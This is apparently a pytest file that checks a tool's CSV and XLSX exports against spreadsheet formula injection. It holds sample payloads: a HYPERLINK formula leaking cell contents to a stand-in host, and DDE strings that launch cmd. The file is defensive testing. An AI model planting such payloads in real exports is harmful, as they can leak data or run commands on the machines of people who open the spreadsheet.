"""Spreadsheet formulas in titles and names never reach an export as formulas.

The hostile store holds organisation names and titles starting with ``=HYPERLINK(...)``,
``@SUM(...)*cmd|...``, ``+1+cmd|...`` and ``-2+3``.  The gap exports show organisation names
(idle DMPGs), ``retningsgraf check-draft`` shows titles; every cell of every export is checked.
"""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl
import pytest

from tests.hostile.conftest import Answer, HostileStore

pytestmark = pytest.mark.slow

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NAMES = ('=HYPERLINK("http://127.0.0.1:9/?leak="&A1;"Klik her")', "@SUM(1+1)*cmd|' /C calc'!A0")
TITLES = (
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1;"Klik her") Depression hos voksne',
    "+1+cmd|' /C calc'!A0 Depression hos voksne",
    "-2+3 Depression hos voksne",
)


def _csv_cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def _assert_no_formula(cells: list[str], quoted: tuple[str, ...]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), f"a cell would run as a formula: {cell!r}"
    for text in quoted:
        assert "'" + text in cells, f"{text!r} is missing or not quoted"


def _semicolon_formulas(text: str) -> list[str]:
    """Cells a reader splitting on ';' (Excel with Danish settings) would start with a formula."""
    found, quoted = [], False
    for index, char in enumerate(text):
        if char == '"':
            quoted = not quoted
        elif char == ";" and not quoted and text[index + 1 : index + 2] in FORMULA_STARTS:
            found.append(text[index + 1 : index + 40])
    return found


@pytest.mark.parametrize(
    ("case", "path", "quoted"),
    [
        ("spreadsheet-formula-gaps-csv", "/exports/gaps.csv", NAMES),
        ("spreadsheet-formula-coverage-csv", "/exports/coverage.csv", ()),
    ],
    ids=["spreadsheet-formula-gaps-csv", "spreadsheet-formula-coverage-csv"],
)
def test_csv_exports_quote_would_be_formulas(
    case: str, path: str, quoted: tuple[str, ...], hostile_server: str, answered: Answer
) -> None:
    response = httpx.get(hostile_server + path, timeout=120)
    assert response.status_code == 200
    _assert_no_formula(_csv_cells(response.content.decode("utf-8-sig")), quoted)
    answered("spreadsheet", case, "formula text exported with a leading ' (a text cell)")


@pytest.mark.parametrize(
    ("case", "path", "quoted"),
    [
        ("spreadsheet-formula-gaps-xlsx", "/exports/gaps.xlsx", NAMES),
        ("spreadsheet-formula-coverage-xlsx", "/exports/coverage.xlsx", ()),
    ],
    ids=["spreadsheet-formula-gaps-xlsx", "spreadsheet-formula-coverage-xlsx"],
)
def test_xlsx_exports_hold_no_formula_cells(
    case: str, path: str, quoted: tuple[str, ...], hostile_server: str, answered: Answer
) -> None:
    response = httpx.get(hostile_server + path, timeout=120)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", f"a formula cell: {cell.coordinate} {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    _assert_no_formula(cells, quoted)
    answered("spreadsheet", case, "no formula cell; formula text stored as text with a leading '")


def test_cli_csv_quotes_would_be_formulas(hostile_store: HostileStore, answered: Answer) -> None:
    _assert_no_formula(_csv_cells(hostile_store.gaps_csv), NAMES)
    _assert_no_formula(_csv_cells(hostile_store.check_csv), TITLES)
    answered("spreadsheet", "spreadsheet-formula-cli-csv", "retningsgraf gaps/check-draft --format csv: leading '")


def test_csv_exports_survive_a_semicolon_separated_reader(hostile_server: str, hostile_store: HostileStore) -> None:
    exported = httpx.get(f"{hostile_server}/exports/gaps.csv", timeout=120).content.decode("utf-8-sig")
    assert _semicolon_formulas(exported) == []
    assert _semicolon_formulas(hostile_store.gaps_csv) == []
